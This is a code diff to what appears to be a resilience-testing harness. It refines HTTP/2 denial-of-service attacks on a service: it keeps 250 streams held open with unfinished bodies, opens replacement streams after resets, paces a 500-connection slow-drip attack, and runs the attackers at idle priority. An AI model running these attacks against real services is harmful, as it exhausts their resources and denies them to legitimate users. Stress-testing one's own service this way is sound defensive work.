@@ -177,7 +177,7 @@ def hold_messages(address, path, ends):
 class Messages:
     """One HTTP/2 connection with unfinished messages."""
 
-    STREAMS = range(1, 501, 2)
+    STREAMS = 250
 
     def __init__(self, address, path):
         self.client = connect(address)
@@ -188,16 +188,20 @@ class Messages:
         self.received = b""
         self.initial = self.window = 65535
         self.windows = {}
+        self.opened = 0
         self.client.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
 
     def hold(self, ends):
         while not ends.is_set():
             self.receive()
-            for stream in self.STREAMS:
-                if stream not in self.windows:
-                    self.windows[stream] = self.initial
-                    self.client.sendall(frame(1, 4, stream, self.head))
-                    self.send(stream, b"\0" + struct.pack(">I", 4 << 20))
+            # A stream that the service ends is followed by another.
+            while len(self.windows) < self.STREAMS:
+                stream = 1 + 2 * self.opened
+                self.opened += 1
+                self.windows[stream] = self.initial
+                self.client.sendall(frame(1, 4, stream, self.head))
+                self.send(stream, b"\0" + struct.pack(">I", 4 << 20))
+            for stream in list(self.windows):
                 self.send(stream, bytes(16000))
 
     def send(self, stream, data):
@@ -228,6 +232,8 @@ class Messages:
                 self.windows[stream] += int.from_bytes(payload, "big")
             elif kind == 4 and not flags & 1:
                 self.take_settings(payload)
+            elif kind == 3 or kind == 1 and flags & 1:
+                self.windows.pop(stream, None)
             elif kind == 7:
                 raise OSError("the service closes the connection")
 
@@ -330,6 +336,7 @@ def drip(address, ends):
     clients = [None] * 500
     while not ends.is_set():
         for number, client in enumerate(clients):
+            ends.wait(1 / len(clients))
             try:
                 if client is None:
                     clients[number] = client = connect(address)
@@ -338,11 +345,16 @@ def drip(address, ends):
                 if client is not None:
                     client.close()
                 clients[number] = None
-        ends.wait(1)
 
 
 def process(target, *arguments):
-    return multiprocessing.Process(target=target, args=arguments, daemon=True)
+    return multiprocessing.Process(target=run_idly, args=(target, arguments), daemon=True)
+
+
+def run_idly(target, arguments):
+    """Attackers have machines of their own: here they get the time that the service and its good clients leave."""
+    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
+    target(*arguments)
 
 
 ATTACKS = {"grpc": grpc, "sink": sink, "scrapes": scrapes, "slow": slow}
